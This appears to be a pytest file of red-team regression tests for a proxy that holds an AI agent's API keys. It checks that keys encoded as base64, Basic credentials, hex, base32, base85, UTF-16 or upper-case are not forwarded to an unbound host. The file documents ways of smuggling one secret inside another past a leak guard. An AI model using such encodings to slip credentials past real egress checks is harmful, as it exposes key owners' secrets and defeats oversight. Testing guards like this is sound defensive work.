"""Red team 61: a secret's value that carries another secret's key in a form the proxy's own guard
reads as that key (encoded, in Basic credentials stored encoded, a long run of it, its upper-case
copy) went to a host that key is not bound to: the check across secrets compared plain,
lower-cased containment only."""

from __future__ import annotations

import base64
import json
import secrets
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import GITHUB, OPENAI, needs_root
from tests.proxy.test_redteam60 import policy
from tests.support.clients import curl
from tests.support.leaks import EXTRA
from tests.support.proxyproc import ProxyProcess
from tests.support.upstream import Seen
from tests.support.wait import wait_for

pytestmark = needs_root

# openai's key in this file: hex, so that its upper-case copy is the same key to a server that
# folds case, and long enough that 16-character runs of it are guarded outbound.
B = "sk-RT61B-" + secrets.token_hex(20)
EXTRA.append(("rt61-b", B))

CARRIERS = {
    "basic-base64": base64.b64encode(f"ci-bot:{B}".encode()).decode(),  # Basic credentials stored encoded
    "base64": base64.b64encode(B.encode()).decode(),
    "hex": B.encode().hex(),
    "run-of-24": "tok-" + B[9:33] + "-rt61x",
    "upper-case": B.upper(),
    # (red team 62: forms the guard reads that the check first left out)
    "dockerconfig-b64-of-b64": base64.b64encode(
        json.dumps({"auths": {"ghcr.io": {"auth": base64.b64encode(f"bot:{B}".encode()).decode()}}}).encode()
    ).decode(),
    "base32": base64.b32encode(B.encode()).decode(),
    "base85": base64.b85encode(B.encode()).decode(),
    "utf16le-hex": B.encode("utf-16-le").hex(),
}


@pytest.mark.parametrize("form", list(CARRIERS))
def test_rt61_a_value_carrying_another_secrets_key_in_any_form_the_guard_reads_is_refused(
    make_proxy: Callable[..., ProxyProcess], upstreams: dict[str, Seen], tmp_path: Path, form: str
) -> None:
    """openai's key B is bound to api.openai.com only; github's value (echo.example.com) carries B
    in a form the agent may not send anywhere (the guard refuses it as B: checked first). github
    fails closed; nothing of it reaches echo."""
    fa, fg = tmp_path / "a.key", tmp_path / "g.key"
    fa.write_text(B)
    fg.write_text(CARRIERS[form])
    p = make_proxy(policy(fa, fg), "--secret-refresh", "0.5")
    assert curl(p.url, p.ca, "https://echo.example.com/a", "-H", f"X-Note: {CARRIERS[form]}").reason == (
        "secret_value_outbound"
    )
    before = len(upstreams["echo"].requests)
    reply = curl(p.url, p.ca, "https://echo.example.com/gh", "-H", f"Authorization: Bearer {GITHUB.placeholder}")
    assert (reply.status, reply.reason) == (503, "secret_invalid")
    assert len(upstreams["echo"].requests) == before
    assert "holds a value of secret 'openai'" in p.stderr()


A_OLD, A_NEW = "sk-RT62-OLDA-" + secrets.token_hex(20), "sk-RT62-NEWA-" + secrets.token_hex(20)
EXTRA += [("rt62-a-old", A_OLD), ("rt62-a-new", A_NEW)]


def test_rt62_a_rotated_away_key_less_its_last_character_is_not_sent_as_another_secret(
    make_proxy: Callable[..., ProxyProcess], upstreams: dict[str, Seen], tmp_path: Path
) -> None:
    """openai rotated from A_OLD to A_NEW (A_OLD still guarded); github's file was then given
    A_OLD less its last character. A value whole inside a kept one was exempt (taken for a key the
    kept value had wrapped), and echo.example.com received nearly all of openai's old key."""
    fa, fg = tmp_path / "a.key", tmp_path / "g.key"
    fa.write_text(A_OLD)
    fg.write_text(GITHUB.real)
    p = make_proxy(policy(fa, fg), "--secret-refresh", "0.5")
    bearer = ("-H", f"Authorization: Bearer {OPENAI.placeholder}")
    assert curl(p.url, p.ca, "https://api.openai.com/v1/x", *bearer).status == 200
    fa.write_text(A_NEW)
    wait_for(lambda: curl(p.url, p.ca, "https://api.openai.com/v1/x", *bearer).status == 200 and upstreams["api"].requests[-1]["headers"]["authorization"] == f"Bearer {A_NEW}")  # fmt: skip
    before = len(upstreams["echo"].requests)
    fg.write_text(A_OLD[:-1])
    github = ("https://echo.example.com/gh", "-H", f"Authorization: Bearer {GITHUB.placeholder}")
    wait_for(lambda: curl(p.url, p.ca, *github).reason == "secret_invalid")
    assert not any(A_OLD[:-1] in str(q["headers"]) for q in upstreams["echo"].requests[before:])
